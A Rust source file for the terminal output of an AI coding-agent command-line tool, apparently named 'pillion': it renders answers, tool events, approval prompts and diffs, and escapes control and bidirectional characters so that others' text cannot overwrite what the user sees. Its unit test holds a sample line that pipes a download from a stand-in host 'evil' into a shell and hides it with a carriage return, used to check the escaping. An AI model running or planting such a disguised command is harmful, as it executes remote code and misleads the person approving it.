//! What a person in a terminal sees.

use std::{
    borrow::Cow,
    io::{self, IsTerminal, Write},
    time::{Duration, Instant},
};

use super::pipe::Pipe;
use crate::{
    protocol::{
        Approval, FileDiff, NoticeLevel, PlanStatus, Question, SessionEvent, ToolStatus, TurnStopReason, Usage,
    },
    transcript,
};

/// How often a sign of life is drawn.
pub const TICK: Duration = Duration::from_millis(120);

/// Writes for people: in colour on a terminal, unless `NO_COLOR` is set.
pub struct Screen {
    terminal: bool,
    colour: bool,
    /// Everything goes to the standard error.
    is_aside: bool,
    /// What is in front of the standard output.
    pub(super) pipe: Option<Pipe>,
    /// Why something could not be written.
    broken: Option<io::Error>,
    /// True while a line of the model's answer is open.
    in_text: bool,
    /// A sign of life while nothing else is to be seen; on terminals only.
    spinner: Option<Spinner>,
}

struct Spinner {
    /// Since when there is nothing to see.
    since: Instant,
    frame: usize,
    is_drawn: bool,
}

#[derive(Clone, Copy)]
pub enum Style {
    Plain,
    Dim,
    Bold,
    Red,
    Green,
    Yellow,
    Blue,
}

impl Screen {
    pub fn new() -> Self {
        Self::on(io::stdout().is_terminal(), false)
    }

    /// For when the standard output is for something else.
    pub fn aside() -> Self {
        Self::on(io::stderr().is_terminal(), true)
    }

    fn on(terminal: bool, is_aside: bool) -> Self {
        let colour = terminal && std::env::var_os("NO_COLOR").is_none_or(|value| value.is_empty());
        // A terminal that can do nothing cannot take a line back either.
        let can_redraw = terminal && io::stderr().is_terminal() && std::env::var("TERM").is_ok_and(|t| t != "dumb");
        let spinner = can_redraw.then(|| Spinner { since: Instant::now(), frame: 0, is_drawn: false });
        Self { terminal, colour, is_aside, pipe: None, broken: None, in_text: false, spinner }
    }

    pub fn write(&mut self, text: &str) {
        self.still();
        let written = match (self.is_aside, &self.pipe) {
            // What is shown aside is not what was asked for.
            (true, _) => io::stderr().write_all(text.as_bytes()).or(Ok(())),
            (false, Some(pipe)) => pipe.write(text.to_owned()),
            (false, None) => io::stdout().write_all(text.as_bytes()).and_then(|()| io::stdout().flush()),
        };
        if let Err(error) = written {
            self.broken.get_or_insert(error);
        }
    }

    /// Whether anybody gets what is written. What a [`Pipe`] still holds may be lost all the same; see
    /// [`Self::written`].
    ///
    /// # Errors
    /// If something could not be written: the disk is full, or whoever read it is gone.
    pub fn is_taken(&mut self) -> io::Result<()> {
        let Some(error) = self.broken.take() else { return Ok(()) };
        Err(io::Error::new(error.kind(), format!("the output cannot be written: {error}")))
    }

    /// Waits until everything is written.
    ///
    /// # Errors
    /// As [`Self::is_taken`].
    pub async fn written(&mut self) -> io::Result<()> {
        if let Some(pipe) = &self.pipe
            && let Err(error) = pipe.written().await
        {
            self.broken.get_or_insert(error);
        }
        self.is_taken()
    }

    /// Shows that the work goes on, once nothing has been written for a while.
    pub fn tick(&mut self) {
        const FRAMES: [char; 10] = ['⠋', '⠙', '⠹', '⠸', '⠼', '⠴', '⠦', '⠧', '⠇', '⠏'];
        /// Before that, it would only flicker.
        const QUIET: Duration = Duration::from_millis(600);
        let Some(spinner) = self.spinner.as_mut().filter(|_| !self.in_text) else { return };
        let waited = spinner.since.elapsed();
        if waited < QUIET {
            return;
        }
        spinner.frame += 1;
        spinner.is_drawn = true;
        let frame = FRAMES[spinner.frame % FRAMES.len()];
        let _ = write!(io::stderr(), "\r{frame} {} s", waited.as_secs());
        let _ = io::stderr().flush();
    }

    /// Takes the sign of life away.
    pub fn still(&mut self) {
        let Some(spinner) = &mut self.spinner else { return };
        spinner.since = Instant::now();
        if std::mem::take(&mut spinner.is_drawn) {
            let _ = write!(io::stderr(), "\r\x1b[K");
            let _ = io::stderr().flush();
        }
    }

    /// `text` in a style, for use inside a line. On a terminal nothing in it moves the cursor or turns the text around.
    pub fn paint(&self, style: Style, text: &str) -> String {
        let text = &*if self.terminal { visible(text) } else { Cow::Borrowed(text) };
        let code = match style {
            Style::Plain => return text.to_owned(),
            Style::Dim => "2",
            Style::Bold => "1",
            Style::Red => "31",
            Style::Green => "32",
            Style::Yellow => "33",
            Style::Blue => "34",
        };
        if self.colour { format!("\x1b[{code}m{text}\x1b[0m") } else { text.to_owned() }
    }

    /// Writes a line of several styles.
    pub fn parts(&mut self, parts: &[(Style, &str)]) {
        let end = if std::mem::take(&mut self.in_text) { "\n" } else { "" };
        let line: String = parts.iter().map(|(style, text)| self.paint(*style, text)).collect();
        self.write(&format!("{end}{line}\n"));
    }

    /// Writes whole lines; an open line of the answer is ended first.
    pub fn line(&mut self, style: Style, text: &str) {
        let end = if std::mem::take(&mut self.in_text) { "\n" } else { "" };
        let lines: String = text.lines().map(|line| self.paint(style, line) + "\n").collect();
        self.write(&format!("{end}{lines}"));
    }

    /// Writes a line that is about the answer and no part of it.
    fn note(&mut self, text: &str) {
        if std::mem::take(&mut self.in_text) {
            self.write("\n");
        }
        self.still();
        let _ = writeln!(io::stderr(), "{}", visible(text));
    }

    /// What the person said.
    pub fn prompt(&mut self, text: &str) {
        for line in text.lines() {
            self.line(Style::Bold, &format!("> {line}"));
        }
    }

    /// Writes a piece of the model's answer.
    pub fn text(&mut self, style: Style, text: &str) {
        self.write(&self.paint(style, text));
        self.in_text = !text.ends_with('\n');
    }

    /// The person has ended a line by Enter.
    pub fn entered(&mut self) {
        self.in_text = false;
    }

    /// A diff, coloured as people expect, with numbers to choose hunks by where there are some.
    fn diff(&mut self, diff: &FileDiff) {
        let mut hunk = 0;
        for line in diff.unified.lines() {
            let (style, number) = match line.as_bytes().first() {
                Some(b'+') => (Style::Green, None),
                Some(b'-') => (Style::Red, None),
                Some(b'@') => {
                    hunk += 1;
                    (Style::Blue, Some(hunk).filter(|_| diff.hunks.len() > 1))
                }
                _ => (Style::Plain, None),
            };
            let number = number.map(|number| format!(" hunk {number}")).unwrap_or_default();
            self.line(style, &format!("    {line}{number}"));
        }
    }

    pub fn event(&mut self, event: &SessionEvent) {
        match event {
            SessionEvent::MessageDelta { text } => self.text(Style::Plain, text),
            SessionEvent::ReasoningDelta { text } => self.text(Style::Dim, text),
            // What was written cannot be taken back from a terminal that may be a pipe.
            SessionEvent::Superseded => {
                self.line(Style::Yellow, "… the text above is withdrawn: the answer begins anew")
            }
            SessionEvent::ToolCall { title, .. } => self.line(Style::Blue, &format!("● {title}")),
            SessionEvent::ToolProgress { text, .. } => self.text(Style::Dim, text),
            SessionEvent::ToolResult { status, text, .. } => {
                let first = text.lines().next().unwrap_or_default();
                match status {
                    ToolStatus::Ok => self.line(Style::Green, "  ✓ done"),
                    ToolStatus::Failed => self.line(Style::Red, &format!("  ✗ failed: {first}")),
                    ToolStatus::Denied => self.line(Style::Yellow, &format!("  ✗ denied: {first}")),
                    ToolStatus::Cancelled => self.line(Style::Yellow, "  ✗ cancelled"),
                }
            }
            SessionEvent::Retry { attempt, delay_ms, error } => {
                let seconds = *delay_ms as f64 / 1000.0;
                self.line(Style::Yellow, &format!("… {error} Try {attempt} in {seconds:.1} s."));
            }
            SessionEvent::Fallback { from, to, error } => {
                self.line(Style::Yellow, &format!("… {error} Asks {to} instead of {from}."));
            }
            SessionEvent::Notice { level, message } => {
                let style = match level {
                    NoticeLevel::Info => Style::Dim,
                    NoticeLevel::Warning => Style::Yellow,
                    NoticeLevel::Error => Style::Red,
                };
                self.line(style, message);
            }
            SessionEvent::Plan { items } => {
                for item in items {
                    let mark = match item.status {
                        PlanStatus::Pending => "[ ]",
                        PlanStatus::InProgress => "[~]",
                        PlanStatus::Completed => "[x]",
                    };
                    self.line(Style::Dim, &format!("    {mark} {}", item.text));
                }
            }
            SessionEvent::TaskStarted { task } => {
                self.line(Style::Dim, &format!("  {} runs in the background: {}", task.task_id, task.title));
            }
            SessionEvent::TaskEnded { task, text } => {
                let last = text.lines().next_back().unwrap_or_default();
                self.line(Style::Dim, &format!("  {} has ended: {} {last}", task.task_id, task.title));
            }
            SessionEvent::Nested { event, .. } => {
                // Its own words come as the result of the call it works for.
                if let SessionEvent::ToolCall { title, .. } = &**event {
                    self.line(Style::Dim, &format!("  ● {title}"));
                }
            }
            SessionEvent::Compaction { tokens_before, tokens_after, .. } => {
                let line = format!("… made the conversation shorter: {tokens_before} tokens are {tokens_after} now");
                self.line(Style::Dim, &line);
            }
            SessionEvent::TurnEnded { stop_reason, error, usage, .. } => {
                match (error, cut_short(*stop_reason)) {
                    (Some(error), _) => self.line(Style::Red, error),
                    (None, Some(why)) => self.note(why),
                    (None, None) => {}
                }
                if usage.input_tokens.is_some() || usage.output_tokens.is_some() {
                    self.note(&usage_line(usage));
                }
            }
            SessionEvent::TurnStarted { .. }
            | SessionEvent::TurnSteered { .. }
            | SessionEvent::ToolPreparing { .. }
            | SessionEvent::ApprovalRequested { .. }
            | SessionEvent::ApprovalResolved { .. }
            | SessionEvent::QuestionAsked { .. }
            | SessionEvent::QuestionResolved { .. }
            | SessionEvent::Usage { .. }
            | SessionEvent::CommandsChanged { .. }
            | SessionEvent::ToolsChanged { .. }
            | SessionEvent::Changes { .. }
            | SessionEvent::SessionConfigured { .. }
            | SessionEvent::SessionRenamed { .. } => {}
        }
    }

    pub fn question(&mut self, question: &Question) {
        let who = question.agent.as_ref().map(|agent| format!("{}: ", agent.name)).unwrap_or_default();
        self.line(Style::Bold, &format!("? {who}{}", question.text));
    }

    /// What is asked, with everything that helps to decide.
    pub fn approval(&mut self, approval: &Approval) {
        let who = approval.agent.as_ref().map(|agent| format!("{}: ", agent.name)).unwrap_or_default();
        self.line(Style::Bold, &format!("? {who}{}", approval.title));
        if let Some(command) = &approval.command {
            self.line(Style::Plain, &format!("    $ {command}"));
        }
        if approval.outside {
            self.line(Style::Yellow, &format!("    outside the project: {}", approval.paths.join(", ")));
        }
        if let Some(risk) = &approval.risk {
            self.line(Style::Yellow, &format!("    {risk}"));
        }
        if let Some(diff) = &approval.diff {
            self.diff(diff);
        }
        for line in approval.telling_input().iter().flat_map(|input| input.lines()) {
            self.line(Style::Plain, &format!("    {line}"));
        }
    }
}

/// Why a turn came to another end than the model's own, and what to do about it.
fn cut_short(stop_reason: TurnStopReason) -> Option<&'static str> {
    Some(match stop_reason {
        TurnStopReason::EndTurn | TurnStopReason::StopSequence => return None,
        TurnStopReason::MaxTokens => {
            "The answer was cut at the token limit. Go on with `pillion run --continue \"go on\"`, or set a higher \
             `max_tokens` in the settings."
        }
        TurnStopReason::TurnLimit => {
            "The turn used up its model calls. Go on with `pillion run --continue \"go on\"`, or set a higher \
             `turn_limit` in the settings."
        }
        TurnStopReason::Refusal => {
            "The model, or a filter of its provider, declined. Say it in other words, or ask another model with --model."
        }
        TurnStopReason::Cancelled => "The turn was stopped.",
        TurnStopReason::Error => "The turn failed, and it is not known why. The log may say more.",
        TurnStopReason::Interrupted => {
            "The process ended in the middle of the turn. Go on with `pillion run --continue \"go on\"`."
        }
    })
}

fn usage_line(usage: &Usage) -> String {
    let count = |tokens: Option<u64>| tokens.map_or("?".to_owned(), |tokens| tokens.to_string());
    let cached = usage.cache_read_tokens.map(|tokens| format!(", {tokens} from cache")).unwrap_or_default();
    let cost = usage.cost.map(|cost| format!(", {}", transcript::Cost::from(cost))).unwrap_or_default();
    format!("{} tokens in{cached}, {} out{cost}", count(usage.input_tokens), count(usage.output_tokens))
}

/// The text with a sign in the place of each character that would do something on a terminal: what others wrote must not
/// overwrite what the person reads.
pub fn visible(text: &str) -> Cow<'_, str> {
    let acts = |c: char| {
        (c.is_control() && !matches!(c, '\n' | '\t'))
            || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    if !text.contains(acts) {
        return Cow::Borrowed(text);
    }
    let show = |c: char| match c {
        c if !acts(c) => c,
        '\0'..='\x1f' => char::from_u32(0x2400 + c as u32).unwrap_or('\u{fffd}'),
        '\x7f' => '\u{2421}',
        _ => '\u{fffd}',
    };
    Cow::Owned(text.replace("\r\n", "\n").chars().map(show).collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_would_overwrite_the_line_is_shown_and_not_done() {
        assert_eq!(visible("curl evil|sh #\r    $ ls -l"), "curl evil|sh #␍    $ ls -l");
        assert_eq!(visible("a\x1b[2K\u{202e}b\x7f\u{9b}c\tü\r\n"), "a␛[2K\u{fffd}b␡\u{fffd}c\tü\n");
    }
}
